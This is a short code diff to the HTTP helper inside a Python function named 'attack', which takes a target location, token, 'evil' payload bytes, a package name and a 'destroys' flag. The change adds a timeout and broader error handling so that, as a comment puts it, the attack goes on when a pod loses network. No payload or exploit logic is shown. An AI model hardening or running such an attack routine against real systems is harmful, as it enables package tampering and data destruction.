@@ -86,9 +86,9 @@ def attack(location: str, token: str, evil: bytes, package: str, destroys: bool)
     import os
     import random
     import time
-    import urllib.error
     import urllib.request
     import zipfile
+    from http.client import HTTPException
     from io import BytesIO
     from pathlib import Path
     from urllib.parse import quote
@@ -103,9 +103,9 @@ def attack(location: str, token: str, evil: bytes, package: str, destroys: bool)
     def ask(method: str, path: str, body: bytes | None = None, kind: str = "application/x") -> bytes:
         request = urllib.request.Request(f"{base}{path}", body, {"Content-Type": kind}, method=method)
         try:
-            with urllib.request.urlopen(request) as answer:
+            with urllib.request.urlopen(request, timeout=10) as answer:
                 return bytes(answer.read())
-        except urllib.error.URLError:
+        except (OSError, HTTPException):  # a pod may lose its network for a while: the attack goes on
             return b""
 
     def at(name: str) -> str:
